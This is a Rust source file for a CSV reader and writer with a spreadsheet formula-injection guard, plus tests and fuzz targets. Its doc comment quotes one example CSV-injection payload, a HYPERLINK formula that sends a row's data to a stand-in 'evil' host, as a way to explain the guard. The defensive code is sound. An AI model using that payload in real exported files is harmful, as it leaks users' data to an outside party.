//! CSV (RFC 4180) for imports and exports: a [`Reader`] that streams records with the line each
//! one starts on, and a [`Writer`] that quotes what needs quoting and defuses spreadsheet
//! formulas. One implementation, so every section's export is safe in the same way and every
//! import reads back what an export wrote.
//!
//! **The formula guard.** An exported file is opened in a spreadsheet, which runs a cell that
//! starts with `=`, `+`, `-` or `@` (and, in some programs, a tab or carriage return) as a
//! formula: a product called `=HYPERLINK("http://evil/?"&A2,"click")` becomes a link that leaks
//! the row (CSV injection). The rule:
//!
//! - a [`Cell::Text`] — anything a user could have typed — that starts with `=`, `+`, `-`,
//!   `@`, tab or CR is written with a `'` in front, which spreadsheets show as text (and hide);
//! - a text cell that already starts with `'` gets one more, so the guard can be undone
//!   exactly: [`unguard`] strips one `'` when another guarded character follows it, and an
//!   import that applies it gets back the very text the export had;
//! - a [`Cell::Number`] is written as it is, even `-5`: only a value the plugin holds as a
//!   number in a numeric field goes there (cents, quantities, a number attribute), and a number
//!   is not a formula. Text that merely looks like a number (`"-5"` typed into a text field) is
//!   a text cell and is guarded.
//!
//! Records end with CRLF. A field is quoted when it holds a comma, a quote, a line break, or
//! starts or ends with a space (so an import that trims fields keeps it intact).

use std::fmt;

/// The characters that make a spreadsheet read a cell as a formula.
const FORMULA_STARTS: [char; 6] = ['=', '+', '-', '@', '\t', '\r'];
/// The guard's own mark, guarded too so that [`unguard`] is exact.
const GUARD: char = '\'';

/// One cell of a record to write.
#[derive(Debug, Clone, PartialEq)]
pub enum Cell {
    /// Text: quoted as needed and guarded against formulas.
    Text(String),
    /// A number the plugin holds as a number: written as it is, never guarded.
    Number(serde_json::Number),
}

impl From<&str> for Cell {
    fn from(text: &str) -> Self {
        Cell::Text(text.to_owned())
    }
}

impl From<&String> for Cell {
    fn from(text: &String) -> Self {
        Cell::Text(text.clone())
    }
}

impl From<String> for Cell {
    fn from(text: String) -> Self {
        Cell::Text(text)
    }
}

impl From<i64> for Cell {
    fn from(n: i64) -> Self {
        Cell::Number(n.into())
    }
}

impl From<usize> for Cell {
    fn from(n: usize) -> Self {
        Cell::Number((n as u64).into())
    }
}

/// `None` is an empty cell.
impl<T: Into<Cell>> From<Option<T>> for Cell {
    fn from(value: Option<T>) -> Self {
        value.map_or_else(|| Cell::Text(String::new()), Into::into)
    }
}

/// Builds a CSV file record by record.
#[derive(Debug, Default)]
pub struct Writer {
    out: String,
}

impl Writer {
    pub fn new() -> Self {
        Self::default()
    }

    /// Appends one record.
    pub fn row<I>(&mut self, cells: I)
    where
        I: IntoIterator,
        I::Item: Into<Cell>,
    {
        for (i, cell) in cells.into_iter().enumerate() {
            if i > 0 {
                self.out.push(',');
            }
            match cell.into() {
                Cell::Text(text) => push_text(&mut self.out, &text),
                Cell::Number(n) => self.out.push_str(&n.to_string()),
            }
        }
        self.out.push_str("\r\n");
    }

    /// The file so far.
    pub fn as_str(&self) -> &str {
        &self.out
    }

    /// The file, for a download.
    pub fn into_bytes(self) -> Vec<u8> {
        self.out.into_bytes()
    }
}

/// True when a spreadsheet would run `text` as a formula, or when it starts with the guard.
fn needs_guard(text: &str) -> bool {
    text.starts_with(FORMULA_STARTS) || text.starts_with(GUARD)
}

fn push_text(out: &mut String, text: &str) {
    let guard = needs_guard(text);
    let quote =
        text.contains([',', '"', '\n', '\r']) || text.starts_with(' ') || text.ends_with(' ');
    if quote {
        out.push('"');
    }
    if guard {
        out.push(GUARD);
    }
    if quote {
        out.push_str(&text.replace('"', "\"\""));
        out.push('"');
    } else {
        out.push_str(text);
    }
}

/// A field as the export had it before the formula guard: one leading `'` removed when what
/// follows is something the guard protects (a formula start or another `'`). Apply it to the
/// fields of a file that an export may have written.
pub fn unguard(field: &str) -> &str {
    match field.strip_prefix(GUARD) {
        Some(rest) if needs_guard(rest) => rest,
        _ => field,
    }
}

/// One record and the line it starts on (1-based, counting the header line).
#[derive(Debug, Clone, PartialEq)]
pub struct Row {
    pub line: usize,
    pub fields: Vec<String>,
}

/// Why a record could not be read; the rest of the file is not read either.
#[derive(Debug, Clone, PartialEq)]
pub struct ParseError {
    pub line: usize,
    pub reason: String,
}

impl fmt::Display for ParseError {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        write!(f, "line {}: {}", self.line, self.reason)
    }
}

impl std::error::Error for ParseError {}

/// Reads records from `text` one at a time (a large import never holds its rows as a list).
/// A leading byte-order mark is skipped, a trailing line break ends the last record, blank
/// lines are skipped, lines may end with LF or CRLF, and quoted fields may hold commas,
/// quotes (`""`) and line breaks.
#[derive(Debug)]
pub struct Reader<'a> {
    rest: &'a str,
    line: usize,
}

impl<'a> Reader<'a> {
    pub fn new(text: &'a str) -> Self {
        Reader {
            rest: text.strip_prefix('\u{feff}').unwrap_or(text),
            line: 1,
        }
    }

    fn skip_blank_lines(&mut self) {
        loop {
            let blank = if self.rest.starts_with("\r\n") {
                2
            } else if self.rest.starts_with('\n') {
                1
            } else {
                return;
            };
            self.rest = &self.rest[blank..];
            self.line += 1;
        }
    }

    fn fail(&mut self, line: usize, reason: &str) -> Option<Result<Row, ParseError>> {
        self.rest = "";
        Some(Err(ParseError {
            line,
            reason: reason.into(),
        }))
    }
}

impl Iterator for Reader<'_> {
    type Item = Result<Row, ParseError>;

    fn next(&mut self) -> Option<Self::Item> {
        self.skip_blank_lines();
        if self.rest.is_empty() {
            return None;
        }
        let start_line = self.line;
        let mut fields = Vec::new();
        let mut field = String::new();
        let mut chars = self.rest.char_indices().peekable();
        let mut quoted = false;
        let mut at_field_start = true;
        let mut end = self.rest.len();
        while let Some((i, c)) = chars.next() {
            if quoted {
                match c {
                    '"' if matches!(chars.peek(), Some((_, '"'))) => {
                        chars.next();
                        field.push('"');
                    }
                    '"' => {
                        quoted = false;
                        if !matches!(chars.peek(), None | Some((_, ',' | '\n' | '\r'))) {
                            return self.fail(
                                start_line,
                                "a quoted field must end at a comma or line end",
                            );
                        }
                    }
                    '\n' => {
                        self.line += 1;
                        field.push(c);
                    }
                    _ => field.push(c),
                }
                continue;
            }
            match c {
                '"' if at_field_start => {
                    quoted = true;
                    at_field_start = false;
                }
                ',' => {
                    fields.push(std::mem::take(&mut field));
                    at_field_start = true;
                }
                '\r' if matches!(chars.peek(), Some((_, '\n'))) => {}
                '\n' => {
                    end = i + 1;
                    self.line += 1;
                    break;
                }
                _ => {
                    field.push(c);
                    at_field_start = false;
                }
            }
        }
        if quoted {
            return self.fail(start_line, "a quoted field is not closed");
        }
        fields.push(field);
        self.rest = &self.rest[end..];
        Some(Ok(Row {
            line: start_line,
            fields,
        }))
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    fn rows(text: &str) -> Vec<Result<Row, ParseError>> {
        Reader::new(text).collect()
    }

    fn written(cells: Vec<Cell>) -> String {
        let mut w = Writer::new();
        w.row(cells);
        w.as_str().to_owned()
    }

    #[test]
    fn reads_quotes_commas_and_line_breaks() {
        let got = rows("\u{feff}a,b\r\n\"x, y\",\"say \"\"hi\"\"\"\n\n\"two\nlines\",\n");
        assert_eq!(
            got,
            vec![
                Ok(Row {
                    line: 1,
                    fields: vec!["a".into(), "b".into()]
                }),
                Ok(Row {
                    line: 2,
                    fields: vec!["x, y".into(), "say \"hi\"".into()]
                }),
                Ok(Row {
                    line: 4,
                    fields: vec!["two\nlines".into(), String::new()]
                }),
            ]
        );
    }

    #[test]
    fn reports_broken_quotes_with_their_line_and_stops() {
        let got = rows("a\n\"open\n");
        assert_eq!(
            got[1],
            Err(ParseError {
                line: 2,
                reason: "a quoted field is not closed".into()
            })
        );
        let got = rows("\"a\"b,c\nd\n");
        assert_eq!(got.len(), 1);
        assert_eq!(
            got[0].as_ref().unwrap_err().to_string(),
            "line 1: a quoted field must end at a comma or line end"
        );
    }

    #[test]
    fn quotes_what_needs_it() {
        assert_eq!(written(vec!["plain".into()]), "plain\r\n");
        assert_eq!(written(vec!["a,b".into(), "".into()]), "\"a,b\",\r\n");
        assert_eq!(written(vec!["say \"hi\"".into()]), "\"say \"\"hi\"\"\"\r\n");
        assert_eq!(written(vec![" padded".into()]), "\" padded\"\r\n");
    }

    #[test]
    fn text_that_starts_like_a_formula_is_guarded_and_numbers_are_not() {
        for (text, cell) in [
            ("=HYPERLINK(\"x\")", "\"'=HYPERLINK(\"\"x\"\")\""),
            ("+1", "'+1"),
            ("-5", "'-5"),
            ("@SUM(A1)", "'@SUM(A1)"),
            ("\tx", "'\tx"),
            ("\rx", "\"'\rx\""),
            ("'quoted", "''quoted"),
            ("it's", "it's"),
        ] {
            assert_eq!(
                written(vec![text.into()]),
                format!("{cell}\r\n"),
                "{text:?}"
            );
        }
        assert_eq!(
            written(vec![Cell::from(-5_i64), 7_usize.into()]),
            "-5,7\r\n"
        );
        assert_eq!(
            written(vec![None::<i64>.into(), Some(3_i64).into()]),
            ",3\r\n"
        );
    }

    #[test]
    fn what_the_writer_guards_reads_back_unguarded() {
        let texts = [
            "plain",
            "=1+1",
            "+49 30",
            "-5",
            "@x",
            "\tx",
            "\rx",
            "'",
            "'=x",
            "''",
            "it's",
            "with, comma",
            "two\nlines",
            "",
        ];
        let mut w = Writer::new();
        w.row(texts);
        let back = Reader::new(w.as_str()).next().unwrap().unwrap();
        let unguarded: Vec<&str> = back.fields.iter().map(|f| unguard(f)).collect();
        assert_eq!(unguarded, texts);
        assert_eq!(unguard("'abc"), "'abc", "a plain apostrophe stays");
    }
}

/// Fuzz targets: the reader takes uploaded files. Arbitrary text never panics it and every
/// record it yields starts on a later line than the one before; whatever the writer writes,
/// the reader reads back (after [`unguard`]) cell for cell.
#[cfg(test)]
mod fuzz {
    use proptest::collection::vec;
    use proptest::prelude::*;

    use super::*;

    const CELL: &str = "[a-z ,\"\n\r'=+@\t-]{0,8}";

    proptest! {
        #![proptest_config(ProptestConfig { failure_persistence: None, ..ProptestConfig::default() })]

        #[test]
        fn fuzz_csv_reader_never_panics_and_moves_forward(text in "[a-z,\"\n\r \u{feff}]{0,40}") {
            let mut last = 0;
            for row in Reader::new(&text) {
                let line = match row {
                    Ok(row) => row.line,
                    Err(error) => error.line,
                };
                prop_assert!(line > last, "{text:?}: line {line} after {last}");
                last = line;
            }
        }

        #[test]
        fn fuzz_csv_reads_back_what_it_writes(rows in vec(vec(CELL, 2..4), 1..4)) {
            let mut writer = Writer::new();
            for row in &rows {
                writer.row(row.iter().map(Cell::from));
            }
            let read: Vec<Vec<String>> = Reader::new(writer.as_str())
                .map(|row| row.expect("a written row reads").fields)
                .map(|fields| fields.iter().map(|f| unguard(f).to_owned()).collect())
                .collect();
            prop_assert_eq!(read, rows);
        }
    }
}
